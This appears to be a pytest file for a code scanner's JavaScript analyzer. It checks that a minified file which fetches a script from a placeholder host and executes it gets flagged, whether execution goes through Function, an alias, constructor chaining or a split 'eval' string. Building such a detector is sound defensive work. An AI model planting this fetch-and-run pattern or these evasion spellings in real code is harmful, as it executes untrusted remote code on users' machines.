"""Minified files are looked into only where some words stand; these lead to them as well."""

import pytest

from scanner.analyzers.javascript import JavaScriptAnalyzer


@pytest.mark.parametrize(
    "run",
    [
        "Function(text)()",
        "var F = Function; F(text)()",
        "(0, Function)(text)()",
        "[].constructor.constructor(text)()",
        "window['ev' + 'al'](text)",
    ],
)
def test_a_minified_file_is_read_however_it_spells_what_runs_texts(tree, run):
    text = f"fetch('https://x.example/a').then(a => a.text()).then(text => {{ {run} }});\n"

    (finding,) = JavaScriptAnalyzer().analyze(tree({"public/app.min.js": text}))

    assert finding.rule == "javascript.exec-downloaded"
